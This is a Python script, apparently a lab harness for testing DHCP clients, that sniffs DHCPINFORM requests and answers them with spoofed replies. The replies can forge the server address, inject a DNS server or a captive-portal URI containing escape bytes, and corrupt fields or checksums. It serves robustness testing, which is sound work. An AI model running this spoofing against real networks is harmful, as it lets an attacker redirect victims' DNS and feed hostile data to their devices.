#!/usr/bin/env python3
"""A station on the LAN that hears every DHCPINFORM (RFC 2131 3.4) and answers it with forged
DHCP messages, as any neighbour on open Wi-Fi could. It listens on a packet socket (it hears the
request whether or not it is addressed to it) and writes each answer as a whole IPv4/UDP packet
on a packet socket too, so it can claim any source address and port, bypassing the link's queueing
discipline (a delay the lab puts on the real server's answers does not apply to it).

Each --answer is a comma-separated list of key=value, sent in the order given, to the request's
ciaddr and the hardware address it came from:
  from=ADDR        the IP source (default: the real server, --server)
  sport=N, dport=N the UDP ports (default 67 and 68)
  id=ADDR|none     option 54 (default: the real server)
  xid=ok|other     the request's transaction, or another
  chaddr=ok|other  the request's hardware address, or another
  ciaddr=ok|other|zero
  type=N           option 53 (default 5, DHCPACK)
  uri=TEXT         option 114 ("%1b" stands for an ESC byte)
  dns=ADDR         option 6
  op=N             BOOTP op (default 2, BOOTREPLY)
  cut=N            send only the first N bytes of the DHCP message
  csum=ok|bad|none the UDP checksum
Prints "ready" once listening, and "answered XID" after each burst. Standard library only."""

import argparse
import socket
import struct

COOKIE = bytes([99, 130, 83, 99])
ETH_P_IP = 0x0800
ETH_P_ALL = 0x0003
PACKET_QDISC_BYPASS = 20
SOL_PACKET = 263


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def ip_udp(source: bytes, dest: bytes, sport: int, dport: int, payload: bytes, csum: str) -> bytes:
    length = 8 + len(payload)
    udp = struct.pack("!HHHH", sport, dport, length, 0) + payload
    if csum != "none":
        pseudo = source + dest + struct.pack("!BBH", 0, 17, length)
        value = (~checksum(pseudo + udp)) & 0xFFFF or 0xFFFF
        if csum == "bad":
            value ^= 0x0101
        udp = udp[:6] + struct.pack("!H", value) + udp[8:]
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 0x1234, 0x4000, 64, 17, 0, source, dest)
    header = header[:10] + struct.pack("!H", (~checksum(header)) & 0xFFFF) + header[12:]
    return header + udp


def option(code: int, data: bytes) -> bytes:
    return bytes([code, len(data)]) + data


def build(request: bytes, spec: dict, server: bytes) -> tuple[bytes, bytes, int, int, str]:
    message = bytearray(request[:236])
    message[0] = int(spec.get("op", 2))
    if spec.get("xid", "ok") == "other":
        message[4] ^= 0xFF
    if spec.get("chaddr", "ok") == "other":
        message[33] ^= 0xFF
    ciaddr = spec.get("ciaddr", "ok")
    if ciaddr == "other":
        message[15] ^= 0x55
    elif ciaddr == "zero":
        message[12:16] = bytes(4)
    options = option(53, bytes([int(spec.get("type", 5))]))
    ident = spec.get("id", "server")
    if ident != "none":
        options += option(54, server if ident == "server" else socket.inet_aton(ident))
    if "uri" in spec:
        options += option(114, spec["uri"].replace("%1b", "\x1b").encode())
    if "dns" in spec:
        options += option(6, socket.inet_aton(spec["dns"]))
    body = bytes(message) + COOKIE + options + b"\xff"
    body += bytes(max(0, 300 - len(body)))
    if "cut" in spec:
        body = body[: int(spec["cut"])]
    source = server if spec.get("from", "server") == "server" else socket.inet_aton(spec["from"])
    return body, source, int(spec.get("sport", 67)), int(spec.get("dport", 68)), spec.get("csum", "ok")


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--interface", required=True)
    parser.add_argument("--server", required=True, help="the real DHCP server's address")
    parser.add_argument("--answer", action="append", default=[])
    args = parser.parse_args()
    server = socket.inet_aton(args.server)
    answers = [dict(item.split("=", 1) for item in text.split(",") if item) for text in args.answer]
    listen = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    listen.bind((args.interface, 0))
    send = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    send.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    print("ready", flush=True)
    while True:
        frame, address = listen.recvfrom(4096)
        if address[2] == socket.PACKET_OUTGOING or len(frame) < 14 + 20 + 8 + 244:
            continue
        if frame[12:14] != b"\x08\x00" or frame[14 + 9] != 17:
            continue
        ihl = (frame[14] & 0x0F) * 4
        udp = frame[14 + ihl:]
        if struct.unpack("!H", udp[2:4])[0] != 67:
            continue
        request = udp[8:]
        if len(request) < 244 or request[0] != 1 or request[236:240] != COOKIE or bytes([53, 1, 8]) not in request[240:260]:
            continue
        client_mac = frame[6:12]
        ciaddr = request[12:16]
        for spec in answers:
            body, source, sport, dport, csum = build(request, spec, server)
            send.sendto(ip_udp(source, ciaddr, sport, dport, body, csum), (args.interface, ETH_P_IP, 0, 0, client_mac))
        print("answered %s" % request[4:8].hex(), flush=True)


if __name__ == "__main__":
    main()
